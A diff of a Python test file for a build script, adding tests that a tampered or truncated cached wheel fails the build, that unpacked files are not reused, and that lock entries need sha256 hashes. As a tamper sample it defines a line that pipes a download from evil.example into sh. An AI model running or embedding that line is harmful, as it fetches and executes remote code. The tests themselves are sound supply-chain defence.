@@ -4,6 +4,7 @@ and bad sources fail before anything is written."""
 
 from __future__ import annotations
 
+import hashlib
 import importlib.util
 import json
 import os
@@ -325,10 +326,10 @@ def sources_copy(tmp_path: Path) -> Path:
         shutil.copy(ROOT / name, copy_root / name)
     shutil.copytree(ROOT / "task", copy_root / "task")
     shutil.copytree(ROOT / "python", copy_root / "python", ignore=shutil.ignore_patterns("__pycache__"))
-    # Share the vendored-dependency cache: the lock is the same, so the download is too.
+    # Share the wheel cache: the lock is the same, so the download is too (and every build checks it).
     (copy_root / "build").mkdir()
-    (ROOT / "build" / "vendor").mkdir(parents=True, exist_ok=True)
-    (copy_root / "build" / "vendor").symlink_to(ROOT / "build" / "vendor")
+    (ROOT / "build" / "wheels").mkdir(parents=True, exist_ok=True)
+    (copy_root / "build" / "wheels").symlink_to(ROOT / "build" / "wheels")
     return copy_root
 
 
@@ -383,6 +384,100 @@ def test_bad_sources_fail_clearly_and_write_nothing(sources_copy: Path, file: st
 def test_bad_publisher_is_refused(sources_copy: Path) -> None:
     result = build_in(sources_copy, "--publisher", "my publisher")
     assert result.returncode == 1 and "--publisher NAME" in result.stderr
+
+
+# -- the vendored dependencies (on a copy of the sources with a wheel cache of its own, to tamper with) ---
+# What a hostile earlier step of a publishing pipeline, or another job on a shared agent, would add.
+PLANTED = "\nimport os; os.system('curl -s https://evil.example/x | sh')\n"
+
+
+@pytest.fixture
+def own_cache(sources_copy: Path, built: Built) -> Path:
+    """sources_copy with a copy of the shared wheel cache (which the session's build filled)."""
+    wheels = sources_copy / "build" / "wheels"
+    wheels.unlink()
+    shutil.copytree(ROOT / "build" / "wheels", wheels, ignore=shutil.ignore_patterns(".*"))
+    return sources_copy
+
+
+def locked_sha256(repo: Path, project: str) -> str:
+    lock = (repo / "python" / "requirements.lock").read_text()
+    return re.search(rf"(?m)^{project}==\S+ \\\n\s+--hash=sha256:([0-9a-f]{{64}})", lock)[1]
+
+
+def sha256(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def rewrite_member(wheel: Path, member: str, extra: str) -> None:
+    """A wheel that still unpacks, one module changed."""
+    with zipfile.ZipFile(wheel) as original:
+        entries = [(info, original.read(info)) for info in original.infolist()]
+    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as changed:
+        for info, data in entries:
+            changed.writestr(info, data + extra.encode() if info.filename == member else data)
+
+
+TAMPERINGS = {
+    "a module changed": lambda wheel: rewrite_member(wheel, "six.py", PLANTED),
+    "truncated": lambda wheel: wheel.write_bytes(wheel.read_bytes()[:4096]),
+}
+
+
+@pytest.mark.parametrize("tamper", TAMPERINGS.values(), ids=list(TAMPERINGS))
+def test_a_changed_cached_wheel_fails_the_build_and_writes_nothing(own_cache: Path, tamper) -> None:
+    (wheel,) = (own_cache / "build" / "wheels").glob("six-*.whl")
+    tamper(wheel)
+    found = sha256(wheel)
+    result = build_in(own_cache)
+    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
+    assert f"build/wheels/{wheel.name}" in result.stderr
+    assert f"expected sha256 {locked_sha256(own_cache, 'six')}" in result.stderr
+    assert f"found    sha256 {found}" in result.stderr
+    assert "Delete build/wheels/" in result.stderr and "the package index serves another file" in result.stderr
+    dist = own_cache / "dist"
+    assert not dist.exists() or not any(dist.iterdir()), "no .vsix, not even a partial one"
+    assert sha256(wheel) == found, "the build reports the changed wheel; it does not quietly replace it"
+
+
+def test_no_unpacked_file_outlives_a_build(own_cache: Path) -> None:
+    """What a cache of installed files allowed: change a vendored module where an earlier build
+    left it, and the next build ships it. Here every Python file under build/ is changed (the stage
+    too); the next build ships the same bytes as before."""
+    first = build_in(own_cache)
+    assert first.returncode == 0, first.stderr
+    (vsix,) = (own_cache / "dist").glob("*.vsix")
+    before = vsix.read_bytes()
+    changed = sorted((own_cache / "build").rglob("*.py"))
+    for path in changed:
+        path.write_text(path.read_text() + PLANTED)
+    stage = own_cache / "build" / "stage"
+    assert stage / "AwsWifAssumeV1" / "lib" / "six.py" in changed
+    again = build_in(own_cache)
+    assert again.returncode == 0, again.stderr
+    assert vsix.read_bytes() == before, "a file changed in build/ after the first build reached the .vsix"
+    left = [str(p.relative_to(own_cache)) for p in changed if not p.is_relative_to(stage)]
+    assert not left, f"a build left unpacked files in build/ for the next one to reuse: {left[:3]}"
+
+
+def test_a_missing_wheel_is_downloaded_and_checked(own_cache: Path) -> None:
+    wheels = own_cache / "build" / "wheels"
+    names = sorted(p.name for p in wheels.iterdir())
+    (wheel,) = wheels.glob("six-*.whl")
+    wheel.unlink()
+    result = build_in(own_cache)
+    assert result.returncode == 0, result.stderr
+    assert sha256(wheel) == locked_sha256(own_cache, "six")
+    assert sorted(p.name for p in wheels.iterdir()) == names, "nothing left of the download but the wheel"
+
+
+def test_a_lock_entry_without_a_hash_is_refused(sources_copy: Path) -> None:
+    lock = sources_copy / "python" / "requirements.lock"
+    lock.write_text(re.sub(r"(?m)^(six==\S+) \\\n\s+--hash=sha256:[0-9a-f]{64}", r"\1", lock.read_text()))
+    result = build_in(sources_copy)
+    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
+    assert "python/requirements.lock: cannot read 'six==" in result.stderr
+    assert "python3 build.py --lock" in result.stderr
 
 
 def test_cold_install_compiles_the_aws_client_on_a_second_process(vsix_task_dir: Path, tmp_path: Path) -> None:
